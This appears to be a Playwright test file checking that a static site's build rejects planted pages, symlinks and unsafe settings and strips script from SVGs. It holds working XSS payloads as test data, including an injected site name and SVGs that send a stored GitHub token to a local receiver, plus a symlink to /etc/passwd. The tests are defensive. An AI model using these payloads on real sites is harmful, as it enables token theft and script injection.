import { spawnSync } from "node:child_process";
import { existsSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";

import { makeContentCopy } from "../../scripts/content/content-copy.ts";
import { freePorts } from "../../scripts/nginx-test-server.mjs";
import { contentTypeFor } from "../../scripts/start.mjs";
import { allowTime, expect, test, WORK_TIME } from "../fixtures";
import { listHtmlFiles } from "../site-paths";

// Decision 0016: every value written into HTML stays text; a setting unsafe to use stops the build.
const HOSTILE_NAME = `</title><script>alert(1)</script>"'$&`;

test("an authenticator address that is not https stops the editor's build, naming CMS_AUTH_URL", () => {
  allowTime(WORK_TIME.build);
  const build = spawnSync("npx", ["vite", "build", "--config", "admin/vite.config.ts"], {
    encoding: "utf8",
    env: {
      ...process.env,
      CMS_AUTH_URL: "http://auth.example.workers.dev",
      BUILD_DIRECTORY: "build/no-such-build",
    },
  });
  expect(build.status).not.toBe(0);
  expect(build.stderr + build.stdout).toContain(
    "CMS_AUTH_URL must be an https:// URL (the sign-in sends the owner's GitHub token through it): http://auth.example.workers.dev",
  );
});

test("a symbolic link planted in public/ stops the build, naming it", () => {
  allowTime(WORK_TIME.build);
  const { root, remove } = makeContentCopy("meridian-link-");
  try {
    symlinkSync("/etc/passwd", join(root, "public/images/passwd.txt"));
    const build = spawnSync("npm", ["run", "build"], {
      encoding: "utf8",
      env: { ...process.env, CONTENT_ROOT: root, BUILD_DIRECTORY: "build/planted-link" },
    });
    expect(build.status).not.toBe(0);
    expect(build.stderr + build.stdout).toContain(
      "public/images/passwd.txt: is a symbolic link: the build publishes files, not links; put the file itself here",
    );
  } finally {
    remove();
    rmSync("build/planted-link", { recursive: true, force: true });
  }
});

// Decision 0026: pages and scripts come from the build alone.
const PLANTED = [
  {
    file: "public/images/evil.html",
    text: '<!doctype html><html><head><title>x</title></head><body><script>fetch("/x")</script></body></html>',
    problem: "public/images/evil.html: is a page or script the build did not make",
  },
  {
    file: "public/evil.svg",
    text: '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
    problem: "public/evil.svg: is an SVG outside public/images/",
  },
  {
    file: "public/images/headless.html",
    text: "<p>no head<script>fetch('/x')</script>",
    problem: "public/images/headless.html: is a page or script the build did not make",
  },
];
for (const { file, text, problem } of PLANTED) {
  test(`a planted ${file} stops the build, naming it`, () => {
    const { root, remove } = makeContentCopy("meridian-planted-");
    try {
      writeFileSync(join(root, file), text);
      const build = spawnSync("npm", ["run", "build"], {
        encoding: "utf8",
        env: { ...process.env, CONTENT_ROOT: root, BUILD_DIRECTORY: "build/planted-page" },
      });
      expect(build.status).not.toBe(0);
      expect(build.stderr).toContain(problem);
      expect(build.stderr).toContain("The build failed in the content check");
      expect(build.stderr).not.toMatch(/\n\s+at /);
      expect(existsSync("build/planted-page/client")).toBe(false);
    } finally {
      remove();
      rmSync("build/planted-page", { recursive: true, force: true });
    }
  });
}

// One build serves both: a hostile SITE_NAME and the four drawings that ran script past the old check (issue 42,
// decision 0042) change nothing the other's tests read.
test.describe("a build with a hostile SITE_NAME and planted drawings", () => {
  test.describe.configure({ mode: "serial" });
  const BUILD_DIR = "build/hostile";
  const TOKEN = "gho_planted-drawing-test-token";
  const hits: string[] = [];
  let receiver: Server;
  let site: Server;
  let origin = "";
  let receiverUrl = "";
  const remove: Array<() => void> = [];

  test.beforeAll(async () => {
    allowTime(2 * WORK_TIME.build);
    const [receiverPort, sitePort] = await freePorts(2);
    receiver = createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`);
      res.writeHead(204, { "Access-Control-Allow-Origin": "*" }).end();
    });
    await new Promise<void>((resolve) => receiver.listen(receiverPort, "127.0.0.1", resolve));
    receiverUrl = `http://127.0.0.1:${receiverPort}`;
    const run = `fetch('http://127.0.0.1:${receiverPort}/?t='+localStorage.getItem('token'));document.title='ran'`;
    const drawings = {
      "handler.svg": `<svg xmlns="http://www.w3.org/2000/svg" aria-label=">" onload="${run}" width="40" height="40"><rect width="40" height="40" fill="teal"/></svg>`,
      "prefixed.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:a.b="http://www.w3.org/2000/svg" width="40" height="40"><a.b:script>${run}</a.b:script><rect width="40" height="40" fill="teal"/></svg>`,
      "styled.svg": `<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="/images/transform.svg"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="teal"/></svg>`,
      "transform.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xsl:version="1.0" width="40" height="40"><xsl:element name="{concat('scr','ipt')}">${run}</xsl:element><rect width="40" height="40" fill="teal"/></svg>`,
    };
    const copy = makeContentCopy("meridian-drawings-");
    remove.push(copy.remove, () => rmSync(BUILD_DIR, { recursive: true, force: true }));
    for (const [name, text] of Object.entries(drawings))
      writeFileSync(join(copy.root, "public/images", name), text);
    const build = spawnSync("npm", ["run", "build"], {
      encoding: "utf8",
      env: { ...process.env, CONTENT_ROOT: copy.root, BUILD_DIRECTORY: BUILD_DIR, SITE_NAME: HOSTILE_NAME },
    });
    expect(build.status, build.stderr).toBe(0);
    for (const warning of [
      "public/images/handler.svg, line 1: the event handler onload on <svg> is left out of the published copy",
      "public/images/prefixed.svg, line 1: the <a.b:script> element is left out",
      "public/images/styled.svg, line 2: the processing instruction <?xml-stylesheet?> is left out",
      "public/images/transform.svg, line 1: the <xsl:element> element is left out",
    ])
      expect(build.stdout).toContain(warning);
    // As GitHub Pages: no headers at all.
    site = createServer((req, res) => {
      const { pathname } = new URL(req.url ?? "/", "http://x");
      const path = join(BUILD_DIR, "client", pathname === "/" ? "index.html" : decodeURIComponent(pathname));
      // Chromium asks for /favicon.ico beside an SVG document: nothing to see there.
      if (!existsSync(path) || !statSync(path).isFile()) return void res.writeHead(204).end();
      res.writeHead(200, { "Content-Type": contentTypeFor(path) }).end(readFileSync(path));
    });
    await new Promise<void>((resolve) => site.listen(sitePort, "127.0.0.1", resolve));
    origin = `http://127.0.0.1:${sitePort}`;
  });

  test.afterAll(async () => {
    for (const server of [receiver, site]) {
      server?.closeAllConnections();
      await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
    }
    for (const step of remove) step();
  });

  test("writes the name into the editor's page and every page as text, never as markup", () => {
    const admin = readFileSync(join(BUILD_DIR, "client/admin/index.html"), "utf8");
    expect(admin).toContain(
      "<title>Content editor · &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;&quot;'$&amp;</title>",
    );
    const files = listHtmlFiles(join(BUILD_DIR, "client"));
    expect(files.length).toBeGreaterThan(30);
    for (const file of files) {
      const html = readFileSync(file, "utf8");
      expect(html, file).not.toContain("<script>alert(1)");
      expect(html.match(/<title>/g)?.length ?? 0, file).toBeLessThanOrEqual(1);
    }
  });

  test.describe("in the browser, scripts off", () => {
    test.use({ javaScriptEnabled: false });

    test("the editor's page has the name as its title and its one script", async ({ page }) => {
      await page.setContent(readFileSync(join(BUILD_DIR, "client/admin/index.html"), "utf8"));
      expect(await page.title()).toBe(`Content editor · ${HOSTILE_NAME}`);
      await expect(page.locator("head script")).toHaveCount(1);
    });
  });

  test("each drawing, opened with a token stored on a host without headers, runs nothing and sends nothing", async ({
    page,
  }) => {
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    await page.goto(`${origin}/`);
    await page.evaluate((token) => localStorage.setItem("token", token), TOKEN);
    for (const name of ["handler.svg", "prefixed.svg", "styled.svg", "transform.svg"]) {
      const response = await page.goto(`${origin}/images/${name}`);
      expect(response?.status(), name).toBe(200);
      expect(response?.headers()["content-security-policy"], name).toBeUndefined();
      await expect(page.locator("rect"), name).toHaveCount(1);
      // Its load event has fired: a handler or a script would have renamed the document by now.
      expect.soft(await page.title(), name).not.toBe("ran");
      const published = readFileSync(join(BUILD_DIR, "client/images", name), "utf8");
      expect.soft(published, name).not.toMatch(/script|onload|xsl|<\?/i);
    }
    // A request sent after all four reaches the receiver: a drawing's, sent before it, would be there too.
    await fetch(`${receiverUrl}/after`);
    expect(hits).toEqual(["GET /after"]);
    expect(requests.filter((url) => !url.startsWith(origin))).toEqual([]);
  });
});
